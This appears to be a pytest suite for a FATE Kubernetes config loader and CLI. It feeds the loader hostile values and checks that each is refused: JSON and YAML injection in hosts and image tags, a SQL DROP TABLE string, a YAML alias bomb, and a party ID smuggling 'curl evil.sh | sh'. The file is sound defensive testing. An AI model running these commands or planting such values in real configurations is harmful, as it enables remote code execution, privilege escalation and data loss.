"""Hostile input, one class each from issue 27: every one is refused before anything is
created, at its key path, naming the rule (exit 3 through fatectl), fast.

Written against the loader's public entry points only, so the same file runs on the code
before issue 27 (where each of these was accepted)."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from fate_iac.loader import load_stack_config
from fate_iac.problems import ConfigError, Problem
from fate_iac.secrets import Secret
from tests.conftest import party


def refused(raw: dict[str, Any], stack: str = "hostile") -> list[Problem]:
    started = time.monotonic()
    with pytest.raises(ConfigError) as caught:
        load_stack_config(raw, stack)
    assert time.monotonic() - started < 1.0
    assert caught.value.stack == stack
    return list(caught.value.problems)


def paths(problems: list[Problem]) -> set[tuple[Any, ...]]:
    return {p.path for p in problems}


def exchange(**overrides: Any) -> dict[str, Any]:
    raw: dict[str, Any] = {
        "chartName": "fate-exchange",
        "publicHost": "192.168.0.1",
        "rollsite": {"type": "NodePort", "nodePort": 30001},
    }
    return {**raw, **overrides}


def static_member(host: str, domain: str | None = None) -> dict[str, Any]:
    endpoint: dict[str, Any] = {"host": host, "port": 30091}
    if domain is not None:
        endpoint["domain"] = domain
    return {"partyId": 9999, "endpoints": {"rollsite": endpoint}}


def test_a_static_member_whose_host_carries_json_cannot_hijack_a_route() -> None:
    host = '192.168.9.1", "port": 1}, "10000": {"ip": "6.6.6.6'
    problems = refused(exchange(members=[static_member(host)]))
    assert ("members", 0, "endpoints", "rollsite", "host") in paths(problems)


def test_a_static_peer_whose_pulsar_domain_carries_yaml_is_refused() -> None:
    peer = static_member("192.168.9.1", domain="fate.org\n  - fqdn: evil")
    problems = refused(party(peers=[peer]))
    assert ("peers", 0, "endpoints", "rollsite", "domain") in paths(problems)


@pytest.mark.parametrize(
    "key,value",
    [
        ("imageTag", '1.11.2-release"\n        securityContext: {privileged: true}'),
        ("registry", "evil.io/x\n  securityContext:\n    privileged: true"),
        ("registry", 'federatedai" # '),
    ],
)
def test_an_image_tag_or_registry_with_a_newline_or_quote_is_refused(key: str, value: str) -> None:
    problems = refused(party(**{key: value}))
    assert paths(problems) == {(key,)}
    assert value.splitlines()[0] in problems[0].message


def test_helm_values_cannot_set_a_nodeport_outside_the_range() -> None:
    values = {"modules": {"rollsite": {"nodePort": 22}}}
    problems = refused(party(helmValues=values))
    assert ("helmValues", "modules", "rollsite", "nodePort") in paths(problems)


def test_helm_values_cannot_set_a_charts_well_known_password_in_plaintext() -> None:
    values = {"modules": {"mysql": {"password": "fate_dev"}}}
    problems = refused(party(helmValues=values))
    [problem] = [p for p in problems if p.path[0] == "helmValues"]
    assert "fate:mysql.password" in problem.message


def test_helm_values_name_the_typed_image_keys() -> None:
    values = {"image": {"registry": "evil.example.com", "tag": "latest"}}
    problems = refused(party(helmValues=values))
    said = {p.path: p.message for p in problems}
    assert "use the typed key fate:registry" in said[("helmValues", "image", "registry")]
    assert "use the typed key fate:imageTag" in said[("helmValues", "image", "tag")]


@pytest.mark.parametrize("where", ["alone", "beside"])
def test_a_serving_clusters_own_helm_values_cannot_set_a_governed_key(where: str) -> None:
    # beside a training cluster, the serving cluster's rules once skipped its helmValues
    from tests.helpers import alone, beside

    values = {"servingProxy": {"nodePort": 22}}
    raw = alone(helmValues=values) if where == "alone" else beside({"helmValues": values})
    problems = refused(raw)
    [problem] = [p for p in problems if p.rule == "helm-values-governed"]
    assert problem.path == ("fate-serving", "helmValues", "servingProxy", "nodePort")
    assert "use the typed key fate-serving:servingProxy.nodePort" in problem.message


def test_an_empty_secret_mysql_password_is_refused() -> None:
    problems = refused(party(mysql={"password": Secret("", secure=True)}))
    assert paths(problems) == {("mysql", "password")}


def test_a_blank_secret_is_refused_without_showing_it() -> None:
    problems = refused(party(fateboard={"username": "b", "password": Secret("  ", secure=True)}))
    assert paths(problems) == {("fateboard", "password")}


def test_a_stack_cannot_widen_its_nodeport_range_to_take_port_22() -> None:
    rollsite = {"type": "NodePort", "nodePort": 22}
    problems = refused(party(nodePortRange="1-32767", rollsite=rollsite))
    assert ("nodePortRange",) in paths(problems)


@pytest.mark.parametrize("namespace", ["kube-flannel", "calico-system", "openshift-dns"])
def test_infrastructure_namespaces_are_refused(namespace: str) -> None:
    assert paths(refused(party(namespace=namespace))) == {("namespace",)}


@pytest.mark.parametrize(
    "raw,path",
    [
        ({"mysql": {"database": "eggroll_meta'; DROP TABLE t; --"}}, ("mysql", "database")),
        ({"mysql": {"user": 'fate"\nroot'}}, ("mysql", "user")),
        (
            {"externalMysqlIp": "10.0.0.2", "externalMysqlDatabase": "a;b"},
            ("externalMysqlDatabase",),
        ),
        (
            {"ingress": {"fateboard": {"hosts": [{"name": "a.example.com", "path": '/"x'}]}}},
            ("ingress", "fateboard", "hosts", 0, "path"),
        ),
        (
            {"ingress": {"client": {"hosts": [{"name": "a.example.com", "path": "/a\nb: c"}]}}},
            ("ingress", "client", "hosts", 0, "path"),
        ),
    ],
)
def test_database_names_users_and_ingress_paths_with_quotes_semicolons_or_newlines(
    raw: dict[str, Any], path: tuple[Any, ...] | None
) -> None:
    problems = refused(party(**raw))
    assert path is None or path in paths(problems)


def test_a_pulsar_exchange_domain_with_a_newline_is_refused() -> None:
    from tests.helpers import spark

    raw = spark(pulsar={"exchange": {"ip": "10.0.0.9", "port": 30100, "domain": "fate.org\nx: y"}})
    assert ("pulsar", "exchange", "domain") in paths(refused(raw))


def test_deeply_nested_helm_values_are_refused_naming_the_key() -> None:
    node: dict[str, Any] = {"leaf": 1}
    for _ in range(5000):
        node = {"x": node}
    problems = refused(party(helmValues=node))
    assert problems[0].path[0] == "helmValues"


def run_fatectl(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "fatectl", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
    )


ALIAS_BOMB = "\n".join(
    ["config:", '  a0: &a0 ["x","x","x","x","x","x","x","x","x"]']
    + [f"  a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    + ["  fate:partyId: 10000"]
)


def test_a_stack_file_of_nested_aliases_is_refused_fast(tmp_path: Path) -> None:
    (tmp_path / "Pulumi.bomb.yaml").write_text(ALIAS_BOMB)
    started = time.monotonic()
    done = run_fatectl("validate", "--stack", "bomb", "--project-dir", str(tmp_path), cwd=tmp_path)
    assert time.monotonic() - started < 10
    assert done.returncode == 3, done.stderr
    assert "Pulumi.bomb.yaml" in done.stderr and "Traceback" not in done.stderr


def test_a_yaml_error_names_the_file_line_and_column(tmp_path: Path) -> None:
    (tmp_path / "Pulumi.bad.yaml").write_text("config:\n  fate:partyId: 10000\n  fate:x: [1, 2\n")
    done = run_fatectl("validate", "--stack", "bad", "--project-dir", str(tmp_path), cwd=tmp_path)
    assert done.returncode == 3, done.stderr
    assert "Pulumi.bad.yaml:" in done.stderr and "Traceback" not in done.stderr


def test_import_kubefate_refuses_a_shell_string_party_id_and_writes_nothing(
    tmp_path: Path,
) -> None:
    cluster = tmp_path / "cluster.yaml"
    cluster.write_text(
        "name: fate-10000\nnamespace: fate-10000\nchartName: fate\nchartVersion: v1.11.2\n"
        'partyId: "10000; curl evil.sh | sh"\nmodules: [rollsite, python, mysql]\n'
    )
    done = run_fatectl(
        "import-kubefate", str(cluster), "--project-dir", str(tmp_path), cwd=tmp_path
    )
    assert done.returncode == 3, done.stdout + done.stderr
    assert "curl evil.sh" not in done.stdout
    assert "pulumi config set" not in done.stdout + done.stderr
    assert list(tmp_path.glob("Pulumi.*.yaml")) == []


# --- found by the property test (tests/test_render_property.py) ------------------------


def test_a_members_host_with_an_ipv6_zone_cannot_carry_json() -> None:
    # Python reads any text after % as the zone; the exchange's route_table.json writes
    # the host raw
    member = static_member('fe80::1%a", "port": 1}], "8888": [{"ip": "6.6.6.6')
    problems = refused(exchange(members=[member]))
    assert ("members", 0, "endpoints", "rollsite", "host") in paths(problems)
    assert "6.6.6.6" not in " ".join(p.message for p in problems)


def test_an_ingress_path_ending_in_a_colon_is_refused() -> None:
    # the chart writes `- path: {{ .path }}` unquoted: `/x:` reads as a key
    hosts = [{"name": "board.example.com", "path": "/x:"}]
    problems = refused(party(ingress={"fateboard": {"hosts": hosts}}))
    assert ("ingress", "fateboard", "hosts", 0, "path") in paths(problems)


def test_an_annotation_with_a_c1_control_character_is_refused() -> None:
    # Helm's toYaml drops the whole annotations map for it
    ingress = {"fateboard": {"annotations": {"example.com/note": "a\x84b"}}}
    problems = refused(party(ingress=ingress))
    assert ("ingress", "fateboard", "annotations", "example.com/note") in paths(problems)


def test_a_database_host_the_chart_writes_into_a_url_is_not_ipv6() -> None:
    problems = refused(party(mysql={**party()["mysql"], "ip": "fd00::10"}))
    assert ("mysql", "ip") in paths(problems)


def test_a_serving_clusters_fateflow_host_is_not_ipv6() -> None:
    # written into model.transfer.url=http://<ip>:<port>/... without brackets
    from tests.helpers import alone

    server = {"type": "NodePort", "nodePort": 30095, "fateflow": {"ip": "fd00::9", "port": 9380}}
    problems = refused(alone(servingServer=server))
    assert ("fate-serving", "servingServer", "fateflow", "ip") in paths(problems)
